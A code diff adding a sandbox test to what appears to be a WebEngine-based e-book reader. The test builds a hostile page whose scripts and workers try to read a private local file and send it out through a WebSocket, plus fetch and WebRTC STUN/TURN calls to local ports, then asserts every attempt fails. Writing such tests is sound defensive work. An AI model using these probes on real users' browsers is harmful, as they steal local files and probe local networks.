@@ -11,7 +11,9 @@
 #include <QApplication>
 #include <QElapsedTimer>
 #include <QImage>
+#include <QTcpServer>
 #include <QTest>
+#include <QUdpSocket>
 #include <QWebEnginePage>
 #include <QWebEngineView>
 #include <csignal>
@@ -213,6 +215,90 @@ TEST_F(HostilePage, ContextMenuOffersOnlyWhatWorksOnARewrittenPage) {
     EXPECT_EQ(offered(), QStringList{selectAll}) << "on the page, nothing selected";
     evaluate("getSelection().selectAllChildren(document.querySelector('p')); 'ok'");
     EXPECT_EQ(offered(), (QStringList{copy, selectAll})) << "on selected text";
+}
+
+// Whatever starts a request, a page, a dedicated or a shared worker, it meets the same
+// rule: a file outside the book is refused, and neither a local server nor a local address
+// for peer connections hears from the page.
+class PageRequests : public RealEngine {
+protected:
+    void SetUp() override {
+        ASSERT_TRUE(socketServer.listen(QHostAddress::LocalHost));
+        ASSERT_TRUE(peerPort.bind(QHostAddress::LocalHost));
+        const QString root = QString::fromStdString(folder.folder());
+        folder.write("private.txt", kSecret);
+        folder.write("private.js", std::string("self.leaked = '") + kSecret + "';");
+        const std::string probe =
+            "async function probe(text, script, socket) {"
+            "  const r = {};"
+            "  try { r.fetch = await (await fetch(text)).text(); } catch (e) { r.fetch = 'no'; }"
+            "  try { const x = new XMLHttpRequest(); x.open('GET', text, false); x.send();"
+            "        r.xhr = x.responseText; } catch (e) { r.xhr = 'no'; }"
+            "  try { importScripts(script); r.imported = String(self.leaked); }"
+            "  catch (e) { r.imported = 'no'; }"
+            "  try { const s = new WebSocket(socket); s.onopen = () => s.send(r.fetch); }"
+            "  catch (e) {}"
+            "  return JSON.stringify(r);"
+            "}";
+        folder.write("data/dedicated.js",
+                     probe + "onmessage = async m => postMessage(await probe(...m.data));");
+        folder.write("data/shared.js", probe + "onconnect = c => { const port = c.ports[0];"
+                                               "  port.onmessage = async m => port.postMessage("
+                                               "      await probe(...m.data)); };");
+        const std::string socket = "ws://127.0.0.1:" + std::to_string(socketServer.serverPort());
+        const std::string page =
+            "<head><title>requests</title></head><body><script>"
+            "window.results = {};"
+            "const args = ['" +
+            url(root + "private.txt") + "', '" + url(root + "private.js") + "', '" + socket +
+            "/'];"
+            "const dedicated = new Worker('dedicated.js');"
+            "dedicated.onmessage = m => results.dedicated = m.data;"
+            "dedicated.postMessage(args);"
+            "try { const shared = new SharedWorker('shared.js');"
+            "  shared.port.onmessage = m => results.shared = m.data;"
+            "  shared.port.postMessage(args); } catch (e) { results.shared = 'none'; }"
+            "try { new WebSocket('" +
+            socket +
+            "/page'); } catch (e) {}"
+            "fetch('http://127.0.0.1:" +
+            std::to_string(socketServer.serverPort()) +
+            "/page').catch(() => {});"
+            "const frame = document.createElement('iframe'); document.body.appendChild(frame);"
+            "for (const Peer of [window.RTCPeerConnection, frame.contentWindow.RTCPeerConnection])"
+            "  try { const peer = new Peer({iceServers: [{urls: 'stun:127.0.0.1:" +
+            std::to_string(peerPort.localPort()) +
+            "'}]}); peer.createDataChannel('x');"
+            "  peer.createOffer().then(o => peer.setLocalDescription(o)); } catch (e) {}"
+            "try { const relay = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:" +
+            std::to_string(socketServer.serverPort()) +
+            "?transport=tcp', username: 'u', credential: 'p'}]}); relay.createDataChannel('x');"
+            "  relay.createOffer().then(o => relay.setLocalDescription(o)); } catch (e) {}"
+            "</script></body>";
+        RealEngine::SetUp();
+        folder.write("data/1.nvb", scrambled(page));
+    }
+
+    static std::string url(const QString& file) {
+        return QUrl::fromLocalFile(file).toString().toStdString();
+    }
+
+    static constexpr const char* kSecret = "the private notes of somebody";
+    QTcpServer socketServer;
+    QUdpSocket peerPort;
+};
+
+TEST_F(PageRequests, NoWorkerReadsOutsideTheBookAndNoLocalServerHearsFromThePage) {
+    openAndWait(0);
+    for (const char* worker : {"dedicated", "shared"}) {
+        const QString result = QStringLiteral("String(results.%1)").arg(worker);
+        ASSERT_TRUE(waitUntil([&] { return evaluate(result) != "undefined"; }, 15000)) << worker;
+        EXPECT_FALSE(evaluate(result).contains(kSecret)) << worker;
+    }
+    // Time for a connection or a packet to arrive, had one been sent.
+    QTest::qWait(1500);
+    EXPECT_FALSE(socketServer.hasPendingConnections()) << "a local server was reached";
+    EXPECT_FALSE(peerPort.hasPendingDatagrams()) << "a local address was sent packets";
 }
 
 TEST_F(RealEngine, ARendererThatDiesLeavesAWordAndTheNextDoubleClickShowsItsPage) {
